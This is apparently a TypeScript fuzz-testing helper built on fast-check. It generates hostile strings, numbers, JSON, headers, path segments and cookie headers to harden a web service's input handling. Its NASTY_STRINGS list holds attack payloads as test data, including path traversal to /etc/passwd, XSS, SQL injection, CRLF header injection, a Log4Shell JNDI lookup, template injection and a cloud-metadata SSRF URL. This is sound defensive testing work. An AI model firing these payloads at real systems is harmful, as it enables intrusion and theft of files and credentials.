import fc from "fast-check";

/**
 * The hostile values every surface is fed: what reviewers and real attackers try first (NUL,
 * percent-escapes, bidi controls, lone surrogates, injections, numbers past every limit), mixed
 * with fast-check's arbitrary text so that the unexpected shows up too.
 */
export const NASTY_STRINGS = [
  "",
  " ",
  "\u0000",
  "a\u0000b",
  "%00",
  "%",
  "%zz",
  "%ff%fe",
  "..",
  "../../etc/passwd",
  "<script>alert(1)</script>",
  "'; drop table users;--",
  '" OR "1"="1',
  "\u202Egnp.exe",
  "\u200B",
  "\ud800",
  "\udfff",
  "😀",
  "𝕏",
  "\r\nX-Injected: 1",
  "\u0001\u007f\u0085",
  "null",
  "undefined",
  "NaN",
  "Infinity",
  "-1",
  "0",
  "2147483648",
  "9007199254740993",
  "99999999999999999999999",
  "1e309",
  "-0",
  "__proto__",
  "constructor",
  "{}",
  "[]",
  "true",
  "${jndi:ldap://example.invalid/a}",
  "{{7*7}}",
  "http://[::7f00:1]/",
  "http://169.254.169.254/latest/meta-data/",
  "file:///etc/passwd",
  "-271821-04-20T00:00:00Z",
  "+275760-09-13T00:00:00.001Z",
  "a".repeat(300),
  "x".repeat(5000),
];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
  { weight: 2, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.fullUnicodeString({ maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string16bits({ maxLength: 20 }) },
);

export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(0, -1, 1, 100, 101, 2147483647, -2147483648, 2147483648, Number.MAX_SAFE_INTEGER, 1e20, -1e20, 1.5, -0),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/** Any JSON value, biased to the hostile (NUL, huge numbers, deep nesting). */
export const hostileJson: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 2, arbitrary: hostileString },
  { weight: 2, arbitrary: hostileNumber },
  { weight: 1, arbitrary: fc.constantFrom(null, true, false, [], {}) },
  { weight: 1, arbitrary: fc.nat(3000).map((depth) => nest(depth)) },
);

function nest(depth: number): unknown {
  let value: unknown = "bottom";
  for (let i = 0; i < depth; i++) value = i % 2 ? [value] : { a: value };
  return value;
}

/** A header value fetch can send (a ByteString without CR/LF/NUL), however odd. */
export const headerValue: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom("", " ", "x", "%00", "a".repeat(300), "\u00ff\u00fe", "sha256=", "v0=", "Bearer ", "Bearer x.y.z"),
  fc.string({ maxLength: 40 }).map((s) => s.replace(/[^\t\x20-\x7e]/g, "")),
);

/** A path segment: usually percent-encoded text, sometimes raw escapes. */
export const pathSegment: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: hostileString.map((s) => encodeURIComponent(s.replace(/[\ud800-\udfff]/g, ""))) },
  { weight: 1, arbitrary: fc.constantFrom("%00", "%zz", "%", "..", ".", "%2e%2e", "%2F", "a%00b", "%C3%28", "%ED%A0%80") },
);

/** Samples `count` values of an arbitrary, reproducibly. */
export function sampleOf<T>(arbitrary: fc.Arbitrary<T>, count: number, seed: number): T[] {
  return count > 0 ? fc.sample(arbitrary, { seed, numRuns: count }) : [];
}

/**
 * What a provider, a receiver or a client may put in any text it sends: NUL and lone surrogates
 * (which PostgreSQL's text and jsonb refuse, and which UTF-8 cannot encode), alone and amid text.
 */
export const UNSTORABLE_STRINGS = ["\u0000", "\ud800", "\udfff", "a\u0000b", "x\ud800y", "\udfff\ud800", "\u0000\ud800\udfff", "😀\ud83d", "\\u0000", "%00"];
export const unstorableString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...UNSTORABLE_STRINGS) },
  { weight: 1, arbitrary: fc.tuple(fc.string({ maxLength: 12 }), fc.constantFrom(...UNSTORABLE_STRINGS), fc.string({ maxLength: 12 })).map((parts) => parts.join("")) },
);

/**
 * JSON text nested `depth` levels deep (objects and arrays alternating, or one kind), written as
 * text: a value this deep cannot always go through JSON.stringify.
 */
export function deepJsonText(depth: number, kind: "object" | "array" | "mixed", leaf = "1"): string {
  let open = "";
  let close = "";
  for (let i = 0; i < depth; i++) {
    const object = kind === "object" || (kind === "mixed" && i % 2 === 0);
    open += object ? '{"a":' : "[";
    close = (object ? "}" : "]") + close;
  }
  return open + leaf + close;
}

/**
 * A `Cookie` header as a browser, a proxy or an attacker might send it: escapes that do not
 * decode, values of 8–16 KiB, hundreds of cookies, bytes past ASCII, the session cookie twice.
 * `session` is a real session token, so that junk beside a valid cookie is tried too. Headers are
 * ByteStrings: text past Latin-1 is sent as its UTF-8 bytes.
 */
export function cookieHeader(session: string): fc.Arbitrary<string> {
  const utf8Bytes = (s: string) => Buffer.from(s, "utf8").toString("latin1");
  return fc.oneof(
    fc.constantFrom("sy_session=%", "sy_session=%zz", "sy_session=%ff%fe", "sy_session=%E0%A4%A", "sy_session=", "sy_session", "=", ";", ";;;", "sy_session=\"", 'sy_session="%"', "sy_session=%00"),
    fc.constantFrom(`sy_session=${session}; sy_session=%`, `sy_session=%; sy_session=${session}`, `sy_session=x; sy_session=${session}`, `sy_session=${session}; sy_session=${session}`, `a=%; sy_session=${session}`),
    fc.tuple(fc.integer({ min: 8 * 1024, max: 16 * 1024 }), fc.constantFrom("sy_session", "x", "sy_connect_x")).map(([length, name]) => `${name}=${"A".repeat(length)}`),
    fc.integer({ min: 50, max: 400 }).map((n) => Array.from({ length: n }, (_, i) => `c${i}=${i % 7 ? "v" : "%"}`).join("; ")),
    fc.integer({ min: 2, max: 60 }).map((n) => Array.from({ length: n }, (_, i) => `sy_session=${i === n - 1 ? session : `x${i}`}`).join("; ")),
    fc.fullUnicodeString({ maxLength: 20 }).map((s) => `sy_session=${utf8Bytes(s.replace(/[\ud800-\udfff]/g, ""))}`),
    fc.constantFrom("sy_session=\u00e9\u00ff", `sy_session=${utf8Bytes("😀")}`, `${utf8Bytes("ß")}=1; sy_session=%`),
  );
}
